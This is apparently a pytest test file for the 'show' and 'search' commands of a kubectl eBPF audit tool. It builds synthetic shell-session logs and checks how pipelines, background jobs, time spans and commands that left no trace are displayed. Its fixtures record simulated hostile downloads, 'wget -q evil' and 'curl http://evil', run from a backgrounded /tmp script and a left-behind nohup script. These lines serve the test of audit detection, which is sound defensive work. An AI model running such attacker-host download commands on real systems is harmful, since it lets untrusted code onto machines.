"""`show`: which commands it shows, and what it says of them."""

import json
import time
from pathlib import Path

import pytest

from kubectl_ebpfaudit import colours
from tests.support.cli import Cli
from tests.support.logs import MONOTONIC, MS, REALTIME, SECOND, LogBuilder, run, start_shell


def ended(log: LogBuilder, at: int, pid: int, began: int, code: int = 0) -> None:
    log.add("exit", at, pid=pid, start_time=MONOTONIC + began, exit_code=code)


@pytest.fixture
def log(tmp_path: Path) -> Path:
    """ls | wc, then sleep & in /tmp, then true while that runs; all typed but for what sleep's script does."""
    log = start_shell(LogBuilder())
    log.add("tty_in", SECOND - MS, data=b"ls | wc\r")
    run(log, SECOND, 101, "ls", tty=1)
    run(log, SECOND + 10 * MS, 102, "wc", tty=1)
    log.add("tty_out", SECOND + 20 * MS, data=b"3\r\n")
    ended(log, SECOND + 30 * MS, 101, SECOND)
    ended(log, SECOND + 31 * MS, 102, SECOND + 10 * MS)
    log.add("tty_in", 4 * SECOND, data=b"./x &\r")
    run(log, 4 * SECOND + MS, 103, "x", tty=1, cwd=b"/tmp")
    log.add("tty_out", 5 * SECOND, data=b"$ ")
    run(log, 10 * SECOND, 104, "wget", "-q", "evil", ppid=103, tty=1, cwd=b"/tmp")
    ended(log, 11 * SECOND, 104, 10 * SECOND, 1)
    log.add("tty_in", 20 * SECOND, data=b"true\r")
    run(log, 20 * SECOND + MS, 105, "true", tty=1, cwd=b"/root")
    ended(log, 20 * SECOND + 9 * MS, 105, 20 * SECOND + MS)
    ended(log, 30 * SECOND, 103, 4 * SECOND + MS)
    return log.save(tmp_path / "s.ebpfaudit")


def commands(text: str) -> list[str]:
    """The last column of the table of commands."""
    lines = text.partition("COMMAND\n")[2].split("\n\n")[0].splitlines()
    place = next(line for line in text.splitlines() if line.endswith("COMMAND")).index("COMMAND")
    return [line[place:] for line in lines]


def test_pipelines_background_jobs_and_working_directories_are_marked(cli: Cli, log: Path) -> None:
    assert commands(cli("show", log).text) == [
        "bash", "  ls", "  | wc", "  x &  [in /tmp]", "    wget -q evil", "  true  [in /root]"
    ]  # fmt: skip


def test_flat_is_without_the_tree(cli: Cli, log: Path) -> None:
    assert [line[0] for line in commands(cli("show", log, "--flat").text)] == ["b", "l", "|", "x", "w", "t"]


def test_wide_has_the_parent_and_the_working_directory(cli: Cli, log: Path) -> None:
    row = next(line for line in cli("show", log, "-o", "wide").text.splitlines() if "wget" in line)
    assert row.split()[-6:] == ["0", "13", "/tmp", "wget", "-q", "evil"]


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (["--since", "12"], ["bash", "x", "true"]),
        (["--until", "2"], ["bash", "ls", "wc"]),
        (["--since", "2026-01-02T03:04:14Z", "--until", "00:00:10.5"], ["bash", "x", "wget"]),
        (["--since", "1h"], ["bash"]),
    ],
)
def test_a_span_of_time_is_shown_in_text_and_data(cli: Cli, log: Path, arguments: list[str], shown: list[str]) -> None:
    text = commands(cli("show", log, "--flat", *arguments).text)
    assert [line.replace("| ", "").split()[0] for line in text] == shown
    (session,) = json.loads(cli("show", log, "-o", "json", *arguments).out)["sessions"]
    assert [ran["argv"][0] for ran in session["execs"]] == shown
    assert session["argv"] == ["bash"]


@pytest.fixture
def left_behind() -> LogBuilder:
    """A session of two seconds that leaves a script behind, which runs curl in the tenth minute."""
    log = run(start_shell(LogBuilder()), SECOND, 101, "nohup", "sh", "x.sh", tty=1)
    log.add("exit", 2 * SECOND, start_time=MONOTONIC - MS).add("session_end", 2 * SECOND)
    run(log, 600 * SECOND, 102, "curl", "http://evil", ppid=101)
    ended(log, 601 * SECOND, 102, 600 * SECOND)
    return log


@pytest.mark.parametrize(
    ("script_ends", "since", "is_shown"),
    [(None, "5m", True), (None, "20m", True), (620, "5m", True), (620, "10m10s", True), (620, "10m30s", False)],
)
def test_a_session_goes_on_for_since_while_anything_runs_that_it_left_behind(
    cli: Cli, tmp_path: Path, left_behind: LogBuilder, script_ends: int | None, since: str, is_shown: bool
) -> None:
    if script_ends:
        ended(left_behind, script_ends * SECOND, 101, SECOND)
    path = left_behind.add("gap", 1800 * SECOND, 0, 0, seq=None, reason=1).save(tmp_path / "s.ebpfaudit")
    shown = json.loads(cli("show", path, "-o", "json", "--since", since).out)["sessions"]
    assert len(shown) == is_shown


def test_a_search_since_a_time_finds_what_a_session_left_behind_ran_then(
    cli: Cli, tmp_path: Path, left_behind: LogBuilder
) -> None:
    path = left_behind.save(tmp_path / "s.ebpfaudit")
    (hit,) = json.loads(cli("search", "curl", path, "--since", "2026-01-02T03:10:00Z", "-o", "json").out)
    assert hit["text"] == "curl http://evil"


def test_hidden_commands_are_those_without_a_trace(cli: Cli, log: Path) -> None:
    ran = cli("show", log, "--hidden", "--flat")
    assert commands(ran.text) == ["wget -q evil"]
    assert "nothing was printed in their session" in ran.text
    (session,) = json.loads(cli("show", log, "--hidden", "-o", "json").out)["sessions"]
    assert [of["argv"][0] for of in session["execs"]] == ["wget"]


def test_what_was_printed_after_the_clock_was_set_back_is_a_trace(cli: Cli, tmp_path: Path) -> None:
    log = start_shell(LogBuilder()).add("tty_out", 2 * SECOND, data=b"$ ")
    log.add("clock", 3 * SECOND, session=0, realtime=REALTIME - 3600 * SECOND, seq=None)
    run(log, 10 * SECOND, 101, "ls", tty=1)
    log.add("tty_out", 10 * SECOND + 100 * MS, data=b"seen\r\n")
    ended(log, 11 * SECOND, 101, 10 * SECOND)
    shown = cli("show", log.save(tmp_path / "s.ebpfaudit"), "--hidden", "-o", "json").out
    assert json.loads(shown)["sessions"] == []


def test_a_session_that_hid_nothing_is_not_shown(cli: Cli, tmp_path: Path) -> None:
    log = start_shell(LogBuilder()).save(tmp_path / "s.ebpfaudit")
    assert json.loads(cli("show", log, "--hidden", "-o", "json").out)["sessions"] == []


def test_colours_tell_what_failed(cli: Cli, log: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    assert b"\x1b" not in cli("show", log).out
    monkeypatch.setattr("kubectl_ebpfaudit.commands.show.wanted_colours", lambda stream: True)
    coloured = [line for line in cli("show", log).text.splitlines() if line.startswith("\x1b[31m")]
    assert len(coloured) == 1
    assert coloured[0].endswith("wget -q evil\x1b[0m")
    assert b"\x1b" not in cli("show", log, "-o", "json").out


@pytest.mark.parametrize(("variable", "value"), [("NO_COLOR", "1"), ("TERM", "dumb")])
def test_who_wants_no_colours_gets_none(monkeypatch: pytest.MonkeyPatch, variable: str, value: str) -> None:
    class Terminal:
        def isatty(self) -> bool:
            return True

    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.delenv("NO_COLOR", raising=False)
    assert colours.wanted(Terminal())  # type: ignore[arg-type]
    monkeypatch.setenv(variable, value)
    assert not colours.wanted(Terminal())  # type: ignore[arg-type]


@pytest.mark.parametrize("arguments", [["--since", "soon"], ["--until", "x"]])
def test_what_is_no_time_is_refused(cli: Cli, log: Path, arguments: list[str]) -> None:
    assert cli("show", log, *arguments).code == 2


def test_ten_thousand_commands_are_shown_in_little_time(cli: Cli, tmp_path: Path) -> None:
    log = start_shell(LogBuilder())
    for place in range(10_000):
        run(log, SECOND + place * MS, 1000 + place, "true", str(place), tty=1)
        ended(log, SECOND + place * MS + MS // 2, 1000 + place, SECOND + place * MS)
    path = log.save(tmp_path / "s.ebpfaudit")
    before = time.process_time()
    assert len(commands(cli("show", path).text)) == 10_001
    assert time.process_time() - before < 5  # 0.6 s on a quiet machine; make bench measures it
